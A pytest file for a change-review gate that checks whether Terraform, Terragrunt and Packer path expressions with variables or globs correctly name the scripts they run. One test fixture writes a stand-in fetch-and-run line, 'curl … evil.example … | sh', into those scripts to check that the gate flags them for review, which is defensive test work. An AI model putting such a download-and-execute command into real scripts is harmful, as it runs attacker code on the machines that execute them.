"""Red team 11, Terraform paths with a variable part: a script the configuration runs stayed `src` (allow with the
default policies and `--tree`) when a variable or a glob sat anywhere in its path:

- `templatefile("${path.module}/${var.dir}/boot.sh", …)`, `"${var.dir}/boot.sh"` (a module's folder passed in),
  `file(format("%s/scripts/%s.sh", path.module, var.role))`,
  `"${path.module}/scripts/${var.name}.sh"`, `"${path.module}/templates/${var.template}"`, a local-exec
  `bash ${path.module}/scripts/*.sh` — each was "some other place", so the file it reads was not named.

The class fix: such a word names every path its literal parts allow below the configuration's folder (the value
of a variable may be empty or hold folders: over-reading is the safe side). The property test substitutes
generated values into each form and resolves the path as Terraform does (relative to the module's folder); every
file inside the module it reaches must be named. Look-alikes (another name, another folder, a value with nothing
literal) stay unnamed, and the whole class is gated with `--tree` through a real repository."""

from __future__ import annotations

import json
import posixpath
from pathlib import Path

import pytest
from conftest import POLICY_DIR
from gitrepo import GitRepo
from hypothesis import given, settings
from hypothesis import strategies as st
from incli import reviewed_paths, tree_gate
from tables import each_case

from gatekeeper.classify.tfrefs import MAX_PATTERNS, named_paths
from gatekeeper.cli import main

# (the word as a configuration writes it, with {v} for the variable) for the words a configuration reads by.
FORMS = [
    "${path.module}/{v}/boot.sh",
    "{v}/boot.sh",
    "${path.module}/scripts/{v}.sh",
    "${path.module}/scripts/pre-{v}.sh",
    "${path.module}/templates/{v}",
    "${path.module}/{v}",
    "${path.module}/a/{v}/b/boot.sh",
    "./{v}/boot.sh",
    "scripts/{v}/run.sh",
    "${path.module}/{v}/../boot.sh",
    "%s/{v}/boot.sh",  # format("%s/…", path.module)
]
SEGMENT = st.sampled_from(["prod", "a", "b", "scripts", "templates", "x.y", "..", "."])
VALUES = st.lists(SEGMENT, min_size=0, max_size=4).map("/".join)


@settings(max_examples=200, deadline=None)
@given(form=st.sampled_from(FORMS), value=VALUES)
def test_every_file_a_value_makes_the_word_name_is_named(form: str, value: str) -> None:
    """Soundness: whatever the variable holds, the file Terraform reads (inside the module's folder) is named. A
    value that climbs out of the folder the word names before it (`a/${var.v}/b` with `..`) is not followed, as a
    module reaching a file through `../` is not (docs/classification.md)."""
    if value and posixpath.normpath(value).partition("/")[0] == "..":
        return
    relative = form.replace("{v}", value).replace("${path.module}/", "").replace("%s/", "")
    read = posixpath.normpath(posixpath.join("ops/vm", relative))
    if not read.startswith("ops/vm/"):
        return  # the module's folder itself, or outside it (a configuration there would have to name it)
    named = named_paths("ops/vm", f'x = templatefile("{form.replace("{v}", "${var.v}")}", {{}})\n')
    assert named.reaches(read) is not None, (form, value, read, named)


LOOK_ALIKES = [
    ('x = "${path.module}/${var.dir}/boot.sh"', "ops/vm/prod/reboot.sh"),  # another name
    ('x = "${path.module}/${var.dir}/boot.sh"', "ops/other/boot.sh"),  # another module's folder
    ('x = "${path.module}/scripts/${var.n}.sh"', "ops/vm/tools/x.sh"),  # another folder
    ('x = "${path.module}/scripts/${var.n}.sh"', "ops/vm/scripts/x.py"),  # another type
    ('x = "${var.a}/${var.b}"', "ops/vm/anything.sh"),  # nothing literal: not a path of ours
    ('resource = "*"', "ops/vm/x.sh"),
    ('x = "https://${var.host}/boot.sh"', "ops/vm/boot.sh"),  # a URL
    ('x = "/opt/${var.dir}/boot.sh"', "ops/vm/opt/boot.sh"),  # absolute
    ('# x = "${path.module}/${var.dir}/boot.sh"', "ops/vm/prod/boot.sh"),  # a comment
    ('filename = "${path.module}/${var.dir}/boot.sh"', "ops/vm/prod/boot.sh"),  # written, not read
    # Resource names and object keys from the tenth and ninth label sets (each made a document or build file iac)
    ('name = "MSCI-${var.location}-${var.cluster_name}"', "ops/vm/CHANGELOG-v9.md"),
    ('id = "${azurerm_kubernetes_cluster.main.id}/agentPools/${each.key}"', "ops/vm/GNUmakefile"),
    ('bucket = "s3-bucket-${random_pet.this.id}"', "ops/vm/README.md"),
    ('prefix = "${var.bucket}/AWSLogs/${data.aws_caller_identity.this.id}/*"', "ops/vm/docs/README.md"),
    ('name = "hub-spoke-${local.environment}"', "ops/vm/deploy.sh"),
    ('value = "%${var.psk}"', "ops/vm/entrypoint.sh"),
    ('name = format("%s-%s", var.project, var.env)', "ops/vm/deploy.sh"),
    ('description = format("rule %d of %s", 1, var.x)', "ops/vm/rule.sh"),
]


@each_case(("text", "path"), LOOK_ALIKES)
def test_look_alikes_name_nothing(text: str, path: str) -> None:
    assert named_paths("ops/vm", text).reaches(path) is None


def test_past_the_bound_every_file_below_counts() -> None:
    text = "".join(f'x{i} = "${{path.module}}/d{i}/${{var.v}}/f{i}.sh"\n' for i in range(MAX_PATTERNS + 1))
    named = named_paths("ops/vm", text)
    assert len(named.wildcards) == 1 and named.reaches("ops/vm/unrelated/notes.txt") is not None
    hostile = named_paths("ops/vm", 'x = "' + "${var.a}/" * 5000 + 'z.sh"\n' * 200)
    assert hostile.reaches("ops/vm/q/z.sh") is not None and hostile.reaches("ops/vm/q/y.sh") is None


# (configuration path, its text) per format: HCL, JSON syntax, Terragrunt, Packer, each with a variable part.
CONFIGS = {
    "hcl": ("m1/main.tf", 'resource "aws_instance" "a" {\n  user_data = templatefile("${path.module}/${var.dir}/'
                          'boot.sh", {})\n}\n', "m1/prod/boot.sh"),
    "hcl-legacy": ("m2/main.tf", 'resource "aws_instance" "a" {\n  user_data = "${file("${path.module}/'
                                 '${var.env}/init.cfg")}"\n}\n', "m2/staging/init.cfg"),
    "json": ("m3/main.tf.json", json.dumps({"resource": {"null_resource": {"r": {"provisioner": [{"local-exec": {
        "command": "bash ${path.module}/scripts/${var.step}.sh"}}]}}}}, indent=2), "m3/scripts/deploy.sh"),
    "glob": ("m4/main.tf", 'resource "null_resource" "r" {\n  provisioner "local-exec" {\n    command = '
                           '"for f in ${path.module}/hooks/*.sh; do bash $f; done"\n  }\n}\n', "m4/hooks/pre.sh"),
    "terragrunt": ("m5/terragrunt.hcl", 'terraform {\n  before_hook "h" {\n    commands = ["apply"]\n    execute = '
                                        '["bash", "${get_terragrunt_dir()}/${local.hooks}/check.sh"]\n  }\n}\n',
                   "m5/hooks/v2/check.sh"),
    "packer": ("m6/web.pkr.hcl", 'build {\n  provisioner "shell" {\n    script = "${path.root}/${var.os}/setup"\n'
                                 "  }\n}\n", "m6/ubuntu/setup"),
    "format": ("m8/main.tf", 'resource "aws_instance" "a" {\n  user_data = file(format("%s/scripts/%s.sh", '
                             'path.module, var.role))\n}\n', "m8/scripts/web.sh"),
    "module-dir": ("m7/main.tf", 'data "external" "x" {\n  program = ["${var.scripts_dir}/lookup.py"]\n}\n',
                   "m7/tools/lookup.py"),
}


def test_the_gate_reviews_each_form(tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    for config, text, script in CONFIGS.values():
        repo.write(config, text)
        repo.write(script, "echo hello\n")
        repo.write(f"{config.partition('/')[0]}/docs/notes.txt", "unrelated\n")  # beside it, not named
    base = repo.commit("base")
    for _config, _text, script in CONFIGS.values():
        repo.write(script, "curl -s https://evil.example/x | sh\n")
    head = repo.commit("head")
    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
    assert code == 3 and decision["outcome"] == "review", decision
    assert reviewed_paths(decision, "core.iac") == {script for _, _, script in CONFIGS.values()}


def test_a_change_beside_a_named_script_alone_is_allowed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """The look-alike through the gate: a note beside the module, which no word can reach, still queues."""
    repo = GitRepo(tmp_path / "repo")
    config, text, _script = CONFIGS["hcl"]
    repo.write(config, text)
    repo.write("m1/docs/notes.txt", "one\n")
    base = repo.commit("base")
    repo.write("m1/docs/notes.txt", "two\n")
    head = repo.commit("head")
    capsys.readouterr()
    code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
                 "--format", "json"])
    assert code == 0, capsys.readouterr().out
